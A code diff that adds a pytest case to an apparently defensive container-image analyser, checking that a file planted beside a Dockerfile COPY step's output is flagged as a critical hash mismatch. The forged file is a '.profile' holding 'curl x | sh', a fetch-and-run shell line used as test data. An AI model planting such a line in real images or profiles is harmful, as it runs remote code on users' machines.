@@ -241,6 +241,21 @@ def test_recopy_left_out_of_the_layer_verifies_and_is_never_called(tmp_path):
     assert statuses(report)[1][0] == "cannot-recompute" and "already held files" in statuses(report)[1][1]
 
 
+@pytest.mark.parametrize("name,forge", [("classic2-20.10.docker.tar.gz", forge_docker),
+                                        ("buildah2-1.28-layers.oci.tar.gz", forge_oci)])
+def test_file_dropped_beside_a_single_copied_file_is_critical(tmp_path, name, forge):
+    """`COPY hello.txt rel/` (WORKDIR /w): the hash proves which one file the step copied, for
+    either builder, so a file beside it in the layer is not the step's."""
+    report = analyze(str(FIX / name))
+    layer = report.images[0].history[1].layer_index
+    forged = forge(FIX / name, layer, add_file("w/rel/.profile", b"curl x | sh\n"), tmp_path / "f.tar")
+    report = analyze(str(forged))
+    found = mismatches(report)
+    assert [(f.severity.value, f.history, f.path) for f in found] == [("critical", 1, "/w/rel/.profile")]
+    st = report.images[0].history[1].analysis.copy_hash
+    assert st.status == "mismatch" and st.paths == ["/w/rel/.profile"] and st.matched_as
+
+
 def test_classic_forgery_is_no_longer_verified_but_not_called(tmp_path):
     """The classic hash covers the source's context path: a non-match is not proof."""
     forged = forge_docker(FIX / "classic-20.10.docker.tar.gz", 1,
